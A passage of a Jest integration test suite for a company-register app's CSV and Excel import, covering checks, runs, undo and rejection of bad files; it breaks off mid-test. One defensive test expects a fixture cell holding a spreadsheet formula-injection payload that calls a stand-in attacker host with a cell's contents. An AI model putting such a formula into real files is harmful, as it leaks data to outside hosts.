import { request as httpRequest } from 'node:http';
import { and, eq, isNull, like, sql } from 'drizzle-orm';
import {
  describeAuditEntry,
  IMPORT_ANSWER_LIST_MAX,
  IMPORT_COLUMNS_MAX,
  IMPORT_UNDO_DAYS,
  IMPORT_UNUSED_FILE_DAYS,
} from '@registra/domain';
import { DATABASE } from '../src/platform/database/database';
import type { Database } from '../src/platform/database/database';
import { imports } from '../src/import/import.schema';
import { IMPORT_UNDO_BATCH, ImportService } from '../src/import/import.service';
import { organizations } from '../src/organizations/organizations.schema';
import { OrganizationsService } from '../src/organizations/organizations.service';
import { HousekeepingService } from '../src/platform/housekeeping/housekeeping.service';
import { FILE_STORAGE } from '../src/platform/storage/file-storage';
import type { FileStorage } from '../src/platform/storage/file-storage';
import { auditRowsOf } from './support/audit';
import { createdId } from './support/records';
import { importFixture, uploadForImport } from './support/imports';
import { createStaff, startTestApp } from './support/test-app';
import type { SignedIn, TestApp } from './support/test-app';

describe('import of a book from CSV or Excel', () => {
  let t: TestApp;
  let staff: SignedIn;

  beforeAll(async () => {
    t = await startTestApp({ IMPORT_MAX_BYTES: String(2 * 1024 * 1024) });
    staff = await createStaff(t, { firstName: 'Nuala', lastName: 'Importer' });
  });
  afterAll(() => t.close());

  const upload = (kind: string, body: Buffer, fileName: string, fields?: Record<string, string>) =>
    uploadForImport(t, staff.auth, kind, body, fileName, fields);
  /** Uploads a file of test/fixtures/import under its own name. */
  const uploadFixture = (kind: string, name: string, fields?: Record<string, string>) =>
    upload(kind, importFixture(name), name, fields);
  /** POST …/check: its own answer (the check is started, or refused at once). */
  const check = (id: string, body: Record<string, unknown>) =>
    t.http.post(`/api/import/${id}/check`).set('Authorization', staff.auth).send(body);
  const status = (id: string) => t.http.get(`/api/import/${id}`).set('Authorization', staff.auth);

  /** Starts the check (a background job) and waits for its end: the import's status then. */
  async function checkToEnd(id: string, body: Record<string, unknown>) {
    const started = await check(id, body);
    expect(started.status).toBe(200);
    expect(started.body.data).toMatchObject({ status: 'checking', check: null });
    for (let i = 0; i < 300; i++) {
      const answer = await status(id);
      if (answer.body.data.status !== 'checking') return answer.body.data;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error('The check did not finish');
  }
  /** The result of a check that went to its end. */
  async function checked(id: string, body: Record<string, unknown>) {
    const view = await checkToEnd(id, body);
    expect(view.status).toBe('checked');
    return view.check;
  }

  async function runToEnd(id: string) {
    const started = await t.http.post(`/api/import/${id}/run`).set('Authorization', staff.auth);
    expect(started.status).toBe(200);
    for (let i = 0; i < 200; i++) {
      const answer = await status(id);
      if (['done', 'failed'].includes(answer.body.data.status)) return answer.body.data;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error('The import did not finish');
  }

  /** Starts the undo (a background job) and waits for it to end: the import's status then. */
  async function undoToEnd(id: string) {
    const started = await t.http.post(`/api/import/${id}/undo`).set('Authorization', staff.auth);
    expect(started.status).toBe(200);
    expect(started.body.data.status).toBe('undoing');
    return waitForUndo(id);
  }
  async function waitForUndo(id: string) {
    for (let i = 0; i < 300; i++) {
      const answer = await status(id);
      if (answer.body.data.status !== 'undoing') return answer.body.data;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error('The undo did not finish');
  }

  const organizationsNamed = async (name: string) => {
    const res = await t.http
      .post('/api/organization/search')
      .set('Authorization', staff.auth)
      .send({ search: name, limit: 50 });
    return res.body.data as Array<{
      _id: string;
      name: string;
      cro: string | null;
      incorporationDate: string | null;
      financialYearEnd: string | null;
      businessActivity: string | null;
    }>;
  };

  /**
   * The counts triggers keep (the live records of each table, the duplicate keys' members) equal
   * counting the records again, and the organizations' unfiltered total (which reads the live
   * count) says the same.
   */
  async function expectCountsExact() {
    const db = t.app.get<Database>(DATABASE);
    const rowsOf = async <T>(query: ReturnType<typeof sql>) =>
      ((await db.execute(query)) as unknown as { rows: T[] }).rows;
    for (const table of ['organizations', 'people']) {
      const [counted] = await rowsOf<{ n: number }>(
        sql`SELECT count(*)::int AS n FROM ${sql.identifier(table)} WHERE deleted_at IS NULL`,
      );
      const [kept] = await rowsOf<{ n: number }>(
        sql`SELECT total::int AS n FROM live_record_counts WHERE table_name = ${table}`,
      );
      expect({ table, n: kept.n }).toEqual({ table, n: counted.n });
    }
    const recounted = sql`
      SELECT 'people' AS record_type, duplicate_key AS key, count(*)::int AS total FROM people
        WHERE deleted_at IS NULL AND duplicate_key <> '' GROUP BY duplicate_key
      UNION ALL
      SELECT 'organizations', duplicate_key, count(*)::int FROM organizations
        WHERE deleted_at IS NULL AND duplicate_key <> '' GROUP BY duplicate_key`;
    const kept = sql`SELECT record_type, key, total::int FROM duplicate_key_counts`;
    expect(
      await rowsOf(
        sql`((${kept}) EXCEPT (${recounted})) UNION ALL ((${recounted}) EXCEPT (${kept}))`,
      ),
    ).toEqual([]);
    const [{ n: live }] = await rowsOf<{ n: number }>(
      sql`SELECT count(*)::int AS n FROM organizations WHERE deleted_at IS NULL`,
    );
    const list = await t.http
      .post('/api/organization/search')
      .set('Authorization', staff.auth)
      .send({ limit: 1 });
    expect(list.body.totalItems).toBe(live);
  }

  describe('organizations from CSV (UTF-8 with BOM)', () => {
    let id: string;

    it('upload answers the columns, the mapping guessed from the headers and a preview', async () => {
      const res = await uploadFixture('organizations', 'organizations-utf8.csv');
      expect(res.status).toBe(200);
      id = res.body.data._id;
      expect(res.body.data).toMatchObject({
        format: 'csv',
        encoding: 'utf-8',
        delimiter: ',',
        columns: ['Company name', 'CRO number', 'Date of incorporation', 'Business activity'],
        mapping: {
          'Company name': 'organization.name',
          'CRO number': 'organization.cro',
          'Date of incorporation': 'organization.incorporationDate',
          'Business activity': 'organization.businessActivity',
        },
      });
      expect(res.body.data.preview[0]).toMatchObject({
        row: 2,
        organization: {
          name: 'Seán Ó Briain Teoranta',
          cro: 'IMP-100001',
          incorporationDate: '2019-03-14',
        },
        errors: [],
      });
      expect(res.body.data.preview[1].organization.name).toBe('Cáit Ní Mhaoláin, Design DAC');
      expect((await status(id)).body.data).toMatchObject({ status: 'uploaded', progress: 0 });
    });

    it('run before the check is refused', async () => {
      const res = await t.http.post(`/api/import/${id}/run`).set('Authorization', staff.auth);
      expect(res.status).toBe(409);
      expect(res.body.code).toBe('IMPORT_STATE_CONFLICT');
    });

    it('check lists errors by spreadsheet row (header = row 1) and the duplicate within the file; nothing is written', async () => {
      const result = await checked(id, { onDuplicate: 'skip' });
      expect(result.rows).toBe(5);
      expect(result.errorCount).toBe(2);
      expect(result.errors).toEqual([
        {
          row: 4,
          column: 'Date of incorporation',
          // No calendar has it: refused in the date fields' words.
          message: 'This date does not exist',
        },
        { row: 5, column: 'Company name', message: expect.stringMatching(/name/i) },
      ]);
      expect(result.duplicates).toEqual([
        {
          row: 6,
          recordType: 'organization',
          recordId: null,
          duplicateOfRow: 2,
          label: 'Seán Ó Briain Teoranta',
        },
      ]);
      expect(await organizationsNamed('Briain Teoranta')).toEqual([]);
      expect((await status(id)).body.data.status).toBe('checked');
    });

    it('a mapping naming an unknown column or field is refused with 400', async () => {
      const res = await check(id, {
        onDuplicate: 'skip',
        mapping: { 'No such column': 'organization.name' },
      });
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('VALIDATION_ERROR');
      const bad = await check(id, { onDuplicate: 'sometimes' });
      expect(bad.status).toBe(400);
    });

    it('errors.csv gives the failed rows themselves: their own columns, then Row and Reasons', async () => {
      const res = await t.http.get(`/api/import/${id}/errors.csv`).set('Authorization', staff.auth);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/text\/csv/);
      expect(res.headers['content-disposition']).toContain('organizations-utf8-failed-rows.csv');
      expect(res.text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
        'Company name,CRO number,Date of incorporation,Business activity,Row,Reasons',
        'Bad Date Ltd,IMP-100003,31/02/2021,Retail,4,Date of incorporation: This date does not exist',
        expect.stringMatching(/^,IMP-100004,01\/01\/2022,No name,5,Company name: .*name/i),
        '',
      ]);
    });

    it('run: a background job with progress, a summary, and history saying who imported from which file', async () => {
      const summary = await runToEnd(id);
      expect(summary).toMatchObject({
        status: 'done',
        progress: 1,
        created: 2,
        updated: 0,
        skipped: 1,
        failed: 2,
      });
      const [sean] = await organizationsNamed('Briain Teoranta');
      expect(sean).toMatchObject({
        name: 'Seán Ó Briain Teoranta',
        cro: 'IMP-100001',
        incorporationDate: '2019-03-14',
      });
      const rows = await auditRowsOf(t, sean._id);
      const lines = rows.flatMap((row) =>
        describeAuditEntry({
          ...row,
          changes: null,
          data: row.data as Record<string, unknown> | null,
        }),
      );
      expect(lines).toContain('Imported from organizations-utf8.csv by Nuala Importer');
      const errors = await t.http
        .get(`/api/import/${id}/errors.csv`)
        .set('Authorization', staff.auth);
      expect(errors.text).toMatch(/No name,5,Company name: /);
    });

    it('a finished import cannot be run or checked again', async () => {
      expect(
        (await t.http.post(`/api/import/${id}/run`).set('Authorization', staff.auth)).status,
      ).toBe(409);
      expect((await check(id, { onDuplicate: 'skip' })).status).toBe(409);
    });

    it('the history lists it, undoable for 30 days', async () => {
      const res = await t.http.get('/api/import').set('Authorization', staff.auth);
      expect(res.status).toBe(200);
      const entry = res.body.data.find((item: { _id: string }) => item._id === id);
      expect(entry).toMatchObject({
        fileName: 'organizations-utf8.csv',
        userName: 'Nuala Importer',
        status: 'done',
      });
      const days = (Date.parse(entry.undoableUntil) - Date.parse(entry.finishedAt)) / 86_400_000;
      expect(days).toBe(30);
    });

    it('undo deletes what it created except records changed since, which are listed', async () => {
      const [cait] = await organizationsNamed('Mhaoláin');
      await t.http
        .put(`/api/organization/${cait._id}`)
        .set('Authorization', staff.auth)
        .send({ comments: 'Changed after the import' })
        .expect(200);
      const [sean] = await organizationsNamed('Briain Teoranta');
      const undone = await undoToEnd(id);
      expect(undone).toMatchObject({ status: 'undone', progress: 1 });
      expect(undone.undo).toEqual({
        records: 2,
        recordsDone: 2,
        deleted: 1,
        restored: 0,
        leftAloneCount: 1,
        leftAlone: [
          { recordType: 'organization', recordId: cait._id, label: 'Cáit Ní Mhaoláin, Design DAC' },
        ],
      });
      expect(await organizationsNamed('Briain Teoranta')).toEqual([]);
      expect((await organizationsNamed('Mhaoláin')).length).toBe(1);
      // The job's deletion is the undoer's, in the record's history.
      const rows = await auditRowsOf(t, sean._id);
      expect(rows[rows.length - 1]).toMatchObject({ action: 'delete', userName: 'Nuala Importer' });
      expect(
        (await t.http.post(`/api/import/${id}/undo`).set('Authorization', staff.auth)).status,
      ).toBe(409);
    });
  });

  describe('people from CSV in Windows-1252 (semicolons)', () => {
    it('detects the encoding: "Seán Ó Briain" arrives intact; update restores on undo', async () => {
      // One of them is in the book already: the update choice fills its empty fields.
      const existing = await t.http
        .post('/api/people')
        .set('Authorization', staff.auth)
        .send({ firstName: 'Aoife', lastName: 'Ní Bhriain', phone: '+353 1 555 0101' });
      expect(existing.status).toBe(200);
      const res = await uploadFixture('people', 'people-windows-1252.csv');
      expect(res.status).toBe(200);
      expect(res.body.data).toMatchObject({ encoding: 'windows-1252', delimiter: ';' });
      expect(res.body.data.preview[0].person).toMatchObject({
        firstName: 'Seán',
        lastName: 'Ó Briain',
        birth: '1978-04-23',
        country: 'ireland',
      });
      const id = res.body.data._id;
      const result = await checked(id, { onDuplicate: 'update' });
      expect(result.errors).toEqual([]);
      expect(result.duplicates).toEqual([
        expect.objectContaining({ row: 3, recordType: 'person', recordId: existing.body.data._id }),
      ]);
      const summary = await runToEnd(id);
      expect(summary).toMatchObject({ created: 2, updated: 1, skipped: 0, failed: 0 });
      const aoife = await t.http
        .get(`/api/people/${existing.body.data._id}`)
        .set('Authorization', staff.auth);
      expect(aoife.body.data).toMatchObject({
        mail: 'aoife@example.ie',
        birth: '1985-11-07',
        phone: '+353 1 555 0101',
      });

      const undone = await undoToEnd(id);
      expect(undone.undo).toMatchObject({
        deleted: 2,
        restored: 1,
        leftAloneCount: 0,
        leftAlone: [],
      });
      const restored = await t.http
        .get(`/api/people/${existing.body.data._id}`)
        .set('Authorization', staff.auth);
      expect(restored.body.data).toMatchObject({
        mail: null,
        birth: null,
        phone: '+353 1 555 0101',
      });
    });

    it('an encoding that cannot read the file is refused naming the row; the whole file decides', async () => {
      const refused = await upload(
        'people',
        importFixture('people-windows-1252.csv'),
        'people.csv',
        {
          encoding: 'utf-8',
        },
      );
      expect(refused.status).toBe(400);
      expect(refused.body.message).toMatch(/^Row 2 is not UTF-8 text/);
      const res = await upload('people', importFixture('people-windows-1252.csv'), 'people.csv');
      expect(res.body.data.encoding).toBe('windows-1252');
      const asUtf8 = await check(res.body.data._id, { onDuplicate: 'skip', encoding: 'utf-8' });
      expect(asUtf8.status).toBe(400);
      expect(asUtf8.body.message).toMatch(/^Row 2 is not UTF-8 text/);
      const result = await checked(res.body.data._id, { onDuplicate: 'skip' });
      expect(result.preview[0].person.firstName).toBe('Seán');
    });
  });

  describe('organizations from XLSX', () => {
    it('reads the chosen sheet, Excel dates and numbers as such, formulas as their saved result', async () => {
      // The first sheet is a note: the upload reads the first sheet that fits, and offers both.
      const first = await uploadFixture('organizations', 'companies-dates.xlsx');
      expect(first.status).toBe(200);
      expect(first.body.data).toMatchObject({
        sheets: ['Read me', 'Companies'],
        sheet: 'Companies',
      });

      const res = await uploadFixture('organizations', 'companies-dates.xlsx', {
        sheet: 'Companies',
      });
      expect(res.status).toBe(200);
      expect(res.body.data).toMatchObject({
        format: 'xlsx',
        sheets: ['Read me', 'Companies'],
        sheet: 'Companies',
        mapping: {
          'Company name': 'organization.name',
          'CRO number': 'organization.cro',
          Incorporated: 'organization.incorporationDate',
          'Financial year end': 'organization.financialYearEnd',
          Website: null,
        },
      });
      expect(
        res.body.data.preview.map((row: { organization: unknown }) => row.organization),
      ).toEqual([
        {
          name: 'Beara Boats Teoranta',
          cro: 'XLS-400001',
          incorporationDate: '2018-06-30',
          financialYearEnd: '2024-12-31',
        },
        { name: 'Cúil Aodha Crafts DAC', cro: '4000002', incorporationDate: '2021-01-15' },
      ]);
      const id = res.body.data._id;
      const mapping = { ...res.body.data.mapping, Website: 'organization.businessActivity' };
      const result = await checked(id, { onDuplicate: 'skip', mapping });
      expect(result).toMatchObject({ rows: 2, errors: [], duplicates: [] });
      expect(result.preview[0].organization.businessActivity).toBe('Site');
      expect(await runToEnd(id)).toMatchObject({ created: 2, failed: 0 });
      const [beara] = await organizationsNamed('Beara Boats');
      expect(beara).toMatchObject({
        financialYearEnd: '2024-12-31',
        businessActivity: 'Site',
      });
    });
  });

  describe('a combined file, one row per person in a company', () => {
    it('creates each company and person once and links them with their roles and percentages', async () => {
      const res = await uploadFixture('combined', 'combined-utf8.tsv');
      expect(res.status).toBe(200);
      expect(res.body.data.delimiter).toBe('\t');
      expect(res.body.data.mapping).toEqual({
        'Company name': 'organization.name',
        'CRO number': 'organization.cro',
        Director: 'person.fullName',
        Role: 'link.roles',
        'Shareholding %': 'link.beneficiaryPercentage',
      });
      const id = res.body.data._id;
      const result = await checked(id, { onDuplicate: 'skip' });
      expect(result).toMatchObject({ rows: 4, errors: [], duplicates: [] });
      expect(await runToEnd(id)).toMatchObject({ created: 4, failed: 0 });
      const [gleann] = await organizationsNamed('Gleann Dubh');
      const members = await t.http
        .post('/api/linkpeopleorganization/search')
        .set('Authorization', staff.auth)
        .send({ organizationId: gleann._id });
      const byName = Object.fromEntries(
        members.body.data.map(
          (link: {
            peopleId: { firstName: string; lastName: string };
            roles: string[];
            beneficiaryPercentage: number;
          }) => [
            `${link.peopleId.firstName} ${link.peopleId.lastName}`,
            [link.roles, link.beneficiaryPercentage],
          ],
        ),
      );
      expect(byName).toEqual({
        'Máire Ní Ghallchóir': [['director', 'shareholder'], 60],
        'Dónal Mac Giolla Phádraig': [['secretary'], 0],
        'Siobhán de Búrca': [['shareholder'], 40],
      });
      const [inis] = await organizationsNamed('Inis Mór');
      const inisMembers = await t.http
        .post('/api/linkpeopleorganization/search')
        .set('Authorization', staff.auth)
        .send({ organizationId: inis._id });
      // Máire is one person, in both companies.
      expect(inisMembers.body.data[0].peopleId._id).toBe(
        members.body.data.find((link: { roles: string[] }) => link.roles.includes('director'))
          .peopleId._id,
      );

      // The same file again: every company, person and link is found in the book.
      const again = await upload(
        'combined',
        importFixture('combined-utf8.tsv'),
        'combined-again.tsv',
      );
      const second = await checked(again.body.data._id, { onDuplicate: 'skip' });
      expect(
        second.duplicates.map(
          (d: { row: number; recordType: string }) => `${d.row} ${d.recordType}`,
        ),
      ).toEqual([
        '2 organization',
        '2 person',
        '2 link',
        '3 person',
        '3 link',
        '4 person',
        '4 link',
        '5 organization',
        '5 link',
      ]);
      expect(await runToEnd(again.body.data._id)).toMatchObject({ created: 0, skipped: 4 });
    });

    /**
     * A roles file over records of the book: creates them first (`[path, body]` each), then
     * uploads the file and checks it, every duplicate updated. Answers the import's id and check.
     */
    async function checkedRoles(
      fileName: string,
      csv: string,
      book: ReadonlyArray<readonly [string, Record<string, unknown>]> = [],
    ) {
      for (const [path, body] of book) await createdId(t, staff.auth, path, body);
      const res = await upload('roles', Buffer.from(csv), fileName);
      const id: string = res.body.data._id;
      return { id, result: await checked(id, { onDuplicate: 'update' }) };
    }

    it('a roles file links people and organizations of the book; unknown ones are refused rows', async () => {
      const { id, result } = await checkedRoles(
        'roles.csv',
        'Company name,First Name,Last Name,Roles,Beneficiary percentage\n' +
          'Inis Mór Fisheries Ltd,Siobhán,de Búrca,Shareholder,100\n' +
          'Nowhere Ltd,Siobhán,de Búrca,Director,\n' +
          'Inis Mór Fisheries Ltd,Siobhán,de Búrca,Chairman,\n',
      );
      expect(result.errors).toEqual([
        { row: 3, column: null, message: 'No organization "Nowhere Ltd" in the book' },
        { row: 4, column: 'Roles', message: expect.stringMatching(/"Chairman" is not a role/) },
      ]);
      expect(await runToEnd(id)).toMatchObject({ created: 1, failed: 2 });
    });

    it('a roles file takes the Appointed and Ceased dates; a cessation before the appointment is a refused row', async () => {
      const { id, result } = await checkedRoles(
        'roles-dated.csv',
        'Company name,First Name,Last Name,Roles,Appointed,Ceased\n' +
          'Dún Aonghasa Holdings Ltd,Éamon,Ó Flaithearta,Director,15/01/2020,30/06/2025\n' +
          'Dún Aonghasa Holdings Ltd,Nuala,Ní Chonaill,Secretary,01/07/2025,30/06/2025\n',
        [
          ['/api/organization', { name: 'Dún Aonghasa Holdings Ltd' }],
          ['/api/people', { firstName: 'Éamon', lastName: 'Ó Flaithearta' }],
          ['/api/people', { firstName: 'Nuala', lastName: 'Ní Chonaill' }],
        ],
      );
      expect(result.errors).toEqual([
        { row: 3, column: 'Ceased', message: 'ceasedOn must not be before appointedOn' },
      ]);
      expect(await runToEnd(id)).toMatchObject({ created: 1, failed: 1 });
      const [organization] = await organizationsNamed('Dún Aonghasa');
      const links = await t.http
        .post('/api/linkpeopleorganization/search')
        .set('Authorization', staff.auth)
        .send({ organizationId: organization._id });
      expect(links.body.data).toEqual([
        expect.objectContaining({
          roles: ['director'],
          appointedOn: '2020-01-15',
          ceasedOn: '2025-06-30',
        }),
      ]);
    });

    it('a roles file takes "Shares" and "Class" as an allotment on the appointment day; the undo takes it back', async () => {
      const { id, result } = await checkedRoles(
        'roles-shares.csv',
        'Company name,First Name,Last Name,Roles,Appointed,Shares,Class\n' +
          'Sceilg Mhichíl Ltd,Tadhg,Ó Súilleabháin,Shareholder,01/03/2021,60,\n' +
          'Sceilg Mhichíl Ltd,Bríd,Ní Bhriain,Shareholder,01/03/2021,40,Preference\n' +
          'Sceilg Mhichíl Ltd,Colm,Mac Cárthaigh,Shareholder,,2.5,\n',
        [
          ['/api/organization', { name: 'Sceilg Mhichíl Ltd' }],
          ['/api/people', { firstName: 'Tadhg', lastName: 'Ó Súilleabháin' }],
          ['/api/people', { firstName: 'Bríd', lastName: 'Ní Bhriain' }],
          ['/api/people', { firstName: 'Colm', lastName: 'Mac Cárthaigh' }],
        ],
      );
      expect(result.errors).toEqual([
        {
          row: 4,
          column: 'Shares',
          message: 'Shares must be a whole number from 1 to 1000000000',
        },
      ]);
      expect(await runToEnd(id)).toMatchObject({ created: 2, failed: 1 });
      const [{ _id: organizationId }] = await organizationsNamed('Sceilg');
      const members = await t.http
        .get(`/api/organization/${organizationId}/registers/members`)
        .set('Authorization', staff.auth);
      expect(
        members.body.data.entries.map(
          (m: { lastName: string; shareClassName: string; shares: number; enteredOn: string }) => [
            m.lastName,
            m.shareClassName,
            m.shares,
            m.enteredOn,
          ],
        ),
      ).toEqual([
        ['Ní Bhriain', 'Preference', 40, '2021-03-01'],
        ['Ó Súilleabháin', 'Ordinary', 60, '2021-03-01'],
      ]);
      await undoToEnd(id);
      const entries = await t.http
        .get(`/api/organization/${organizationId}/share-entries`)
        .set('Authorization', staff.auth);
      expect(entries.body.data).toEqual([]);
    });

    it('a roles file naming one person in one organization twice: the second row is the duplicate of the first', async () => {
      const { id, result } = await checkedRoles(
        'roles-twice.csv',
        'Company name,First Name,Last Name,Roles\n' +
          'Árainn Teoranta,Pádraig,Ó Sé,Secretary\n' +
          'Árainn Teoranta,Pádraig,Ó Sé,Director\n',
        [
          ['/api/organization', { name: 'Árainn Teoranta' }],
          ['/api/people', { firstName: 'Pádraig', lastName: 'Ó Sé' }],
        ],
      );
      expect(result.errors).toEqual([]);
      expect(result.duplicates).toEqual([
        expect.objectContaining({
          row: 3,
          recordType: 'link',
          recordId: null,
          duplicateOfRow: 2,
          label: 'Pádraig Ó Sé – Árainn Teoranta',
        }),
      ]);
      // One link, written by the first row and updated by the second.
      const summary = await runToEnd(id);
      expect(summary).toMatchObject({ created: 1, updated: 1 });
    });
  });

  describe('bad files get clear answers and leave nothing behind', () => {
    const refused = async (
      kind: string,
      body: Buffer,
      fileName: string,
      message: RegExp,
      [status, code] = [400, 'VALIDATION_ERROR'],
    ) => {
      const before = (await t.app.get<Database>(DATABASE).select().from(imports)).length;
      const res = await upload(kind, body, fileName);
      expect(res.status).toBe(status);
      expect(res.body).toMatchObject({ ok: false, code });
      expect(res.body.message).toMatch(message);
      expect((await t.app.get<Database>(DATABASE).select().from(imports)).length).toBe(before);
    };

    it.each([
      ['unbalanced quotes', 'unbalanced-quotes.csv', /quoted value is never closed/],
      ['a binary file named .csv', 'binary.csv', /not a CSV text file/],
      ['an empty file', 'empty.csv', /empty/],
      ['a file with only headers', 'headers-only.csv', /header row but no data rows/],
    ])('%s', async (_what, name, message) => {
      await refused('organizations', importFixture(name), name, message);
    });

    it(`more than ${IMPORT_COLUMNS_MAX} columns (1 000)`, async () => {
      const header = Array.from({ length: 1000 }, (_, i) => `C${i}`).join(',');
      await refused(
        'organizations',
        Buffer.from(`${header}\n${header}\n`),
        'wide.csv',
        /1000 columns; at most 200/,
        [413, 'IMPORT_LIMIT_EXCEEDED'],
      );
    });

    it('a workbook with macros (.xlsm) and other formats', async () => {
      await refused('organizations', importFixture('companies-dates.xlsx'), 'book.xlsm', /macros/);
      await refused('organizations', Buffer.from('x'), 'book.pdf', /Only \.csv and \.xlsx/);
      await refused(
        'organizations',
        importFixture('organizations-utf8.csv'),
        'book.xlsx',
        /not an Excel workbook/,
      );
    });

    it('an unknown kind', async () => {
      await refused(
        'everything',
        importFixture('organizations-utf8.csv'),
        'organizations.csv',
        /kind must be/,
      );
    });

    it('formula cells are kept as text, never evaluated', async () => {
      const res = await uploadFixture('organizations', 'formula.csv');
      expect(res.status).toBe(200);
      expect(res.body.data.preview[0].organization).toMatchObject({
        name: '=HYPERLINK("http://evil.example/?x="&A1;"Click")',
        businessActivity: '=1+1',
      });
    });

    /** A multipart upload written by hand: declared size or chunked, the file's bytes streamed. */
    function rawUpload(fileBytes: number, declareLength: boolean) {
      const boundary = 'registra-import-boundary';
      const head = Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\norganizations\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      );
      const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
      const line = Buffer.from('Streamed Company Ltd,IMP-999,01/01/2020\n'.repeat(1000));
      return new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = httpRequest(
          new URL('/api/import', t.url),
          {
            method: 'POST',
            // A connection of its own: the refused body must not be read as the next request.
            agent: false,
            headers: {
              Authorization: staff.auth,
              'Content-Type': `multipart/form-data; boundary=${boundary}`,
              ...(declareLength
                ? { 'Content-Length': String(head.length + fileBytes + tail.length) }
                : {}),
            },
          },
          (res) => {
            let body = '';
            res.on('data', (chunk) => (body += chunk));
            res.on('end', () => {
              req.destroy();
              resolve({ status: res.statusCode ?? 0, body });
            });
          },
        );
        req.on('error', reject);
        req.write(head);
        if (declareLength) {
          // The server answers from the declared size: no need to send 200 MB.
          req.end();
          return;
        }
        let sent = 0;
        const pump = () => {
          while (sent < fileBytes) {
            sent += line.length;
            if (!req.write(line)) return void req.once('drain', pump);
          }
          req.end(tail);
        };
        pump();
      });
    }

    it('a 200 MB file is refused with 413 before it is read, naming the import limit (IMPORT_MAX_BYTES)', async () => {
      const answer = await rawUpload(200 * 1024 * 1024, true);
      expect(answer.status).toBe(413);
      // This app's IMPORT_MAX_BYTES (beforeAll), not the 1 GB of other uploads.
      expect(JSON.parse(answer.body)).toMatchObject({
        code: 'FILE_TOO_LARGE',
        message: 'File size exceeds the 2 MiB limit of an import file.',
      });
    });

    it('a file over the limit sent without a declared size is cut off with 413 while streaming', async () => {
      const answer = await rawUpload(3 * 1024 * 1024, false);
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).code).toBe('FILE_TOO_LARGE');
    });
  });

  describe('duplicate choices', () => {
    it(`the check lists the first ${IMPORT_ANSWER_LIST_MAX} duplicates and counts them all`, async () => {
      const rows = Array.from({ length: IMPORT_ANSWER_LIST_MAX + 2 }, () => 'Céad Ltd');
      const res = await upload(
        'organizations',
        Buffer.from(['Name', ...rows].join('\n')),
        'many-duplicates.csv',
      );
      const result = await checked(res.body.data._id, { onDuplicate: 'skip' });
      expect(result.duplicateCount).toBe(IMPORT_ANSWER_LIST_MAX + 1);
      expect(result.duplicates).toHaveLength(IMPORT_ANSWER_LIST_MAX);
      expect(result.duplicates[0]).toMatchObject({ row: 3, duplicateOfRow: 2 });
    });

    it('a row may have its own choice, overriding the one for every duplicate', async () => {
      const body = Buffer.from(
        'Company name\nTwin Choice Ltd\nTwin Choice Limited\nTwin Choice Teoranta\n',
      );
      const res = await upload('organizations', body, 'twins.csv');
      const id = res.body.data._id;
      const result = await checked(id, { onDuplicate: 'skip', choices: { '3': 'create' } });
      expect(result.duplicates.map((d: { row: number }) => d.row)).toEqual([3, 4]);
      expect(await runToEnd(id)).toMatchObject({ created: 2, skipped: 1 });
      const bad = await check(id, { onDuplicate: 'skip', choices: { three: 'create' } });
      expect(bad.status).toBe(400);
    });
  });

  describe('a run interrupted by a restart', () => {
    it('resumes after the last committed batch: nothing twice, nothing missing', async () => {
      const lines = ['Company name,CRO number'];
      for (let i = 1; i <= 12; i++) lines.push(`Resume Test ${i} Ltd,RES-${i}`);
      const res = await upload('organizations', Buffer.from(lines.join('\n')), 'resume.csv');
      const id = res.body.data._id;
      await checked(id, { onDuplicate: 'skip' });
      // As a server stopped after writing the first 5 rows would leave it: running, 5 rows done.
      const first = lines.slice(0, 6).join('\n');
      const firstUpload = await upload('organizations', Buffer.from(first), 'resume-first.csv');
      await checked(firstUpload.body.data._id, { onDuplicate: 'skip' });
      await runToEnd(firstUpload.body.data._id);
      const db = t.app.get<Database>(DATABASE);
      await db.update(imports).set({ status: 'running', rowsDone: 5 }).where(eq(imports.id, id));
      expect(await t.app.get(ImportService).resumeInterrupted()).toBeGreaterThanOrEqual(1);
      for (let i = 0; i < 100; i++) {
        if ((await status(id)).body.data.status !== 'running') break;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect((await status(id)).body.data).toMatchObject({
        status: 'done',
        created: 7,
        skipped: 0,
      });
      const found = await organizationsNamed('Resume Test');
      expect(found.length).toBe(12);
    });
  });

  describe('undo of a large import, a background job in batches', () => {
    const ROWS = 1_100; // three batches of IMPORT_UNDO_BATCH (500, 500, 100)
    let id: string;

    beforeAll(async () => {
      const lines = ['Company name,CRO number'];
      for (let i = 1; i <= ROWS; i++) lines.push(`Undo Batch ${i} Ltd,UND-${i}`);
      const res = await upload('organizations', Buffer.from(lines.join('\n')), 'undo-large.csv');
      id = res.body.data._id;
      await checked(id, { onDuplicate: 'skip' });
      expect(await runToEnd(id)).toMatchObject({ status: 'done', created: ROWS });
    });

    it(`batches of ${IMPORT_UNDO_BATCH}: one that fails marks the undo undo_failed with what was undone; undo again resumes, nothing twice`, async () => {
      expect(IMPORT_UNDO_BATCH).toBe(500);
      const target = t.app.get(OrganizationsService).importTarget;
      const undoCreates = target.undoCreates;
      let calls = 0;
      // The database refuses the second batch's deletion: the first batch (500) is committed,
      // the second rolls back whole.
      const spy = jest.spyOn(target, 'undoCreates').mockImplementation(async (records) => {
        calls += 1;
        if (calls === 2) throw new Error('connection lost');
        return undoCreates(records);
      });
      try {
        const stopped = await undoToEnd(id);
        expect(stopped).toMatchObject({
          status: 'undo_failed',
          undoableUntil: null,
          undo: { records: ROWS, recordsDone: 500, deleted: 500, restored: 0, leftAloneCount: 0 },
        });
        expect(stopped.progress).toBeCloseTo(500 / ROWS);
        expect(stopped.failure).toBe(
          `The undo stopped after 500 of ${ROWS} records (500 deleted, 0 restored, 0 left alone): connection lost`,
        );
        expect((await organizationsNamed('Undo Batch')).length).toBe(50); // search's page
      } finally {
        spy.mockRestore();
      }
      const db = t.app.get<Database>(DATABASE);
      const live = async () =>
        (
          await db
